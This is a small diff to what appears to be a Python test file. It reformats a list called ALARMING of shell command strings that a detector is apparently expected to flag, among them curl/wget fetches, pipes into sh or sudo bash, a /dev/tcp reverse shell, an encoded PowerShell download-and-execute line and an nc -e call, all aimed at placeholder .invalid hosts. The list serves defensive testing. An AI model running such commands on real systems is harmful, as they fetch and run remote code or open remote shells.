@@ -19,9 +19,11 @@ def test_silent(command: str) -> None:
 
 
 ALARMING = [
-    "curl https://x.invalid", "cd /tmp && wget -q x.invalid", "sh -c 'curl x.invalid'", "/usr/bin/curl x", "$(curl x.invalid)",
+    "curl https://x.invalid", "cd /tmp && wget -q x.invalid", "sh -c 'curl x.invalid'", "/usr/bin/curl x",
+    "$(curl x.invalid)",
     "cat p | sh", "cat p | sudo bash -s", "echo x|base64 -d", "bash <(true)", "bash -i >& /dev/tcp/1.invalid/2",
-    "powershell -nop -enc AAA", "IEX (New-Object Net.WebClient).DownloadString('x')", "node -e \"eval(atob('dHJ1ZQ=='))\"",
+    "powershell -nop -enc AAA", "IEX (New-Object Net.WebClient).DownloadString('x')",
+    "node -e \"eval(atob('dHJ1ZQ=='))\"",
     "cat p.txt | node", "node --eval='require(`child_process`)'", "CURL.EXE x", "nc -e true x.invalid 1",
 ]  # fmt: skip
 
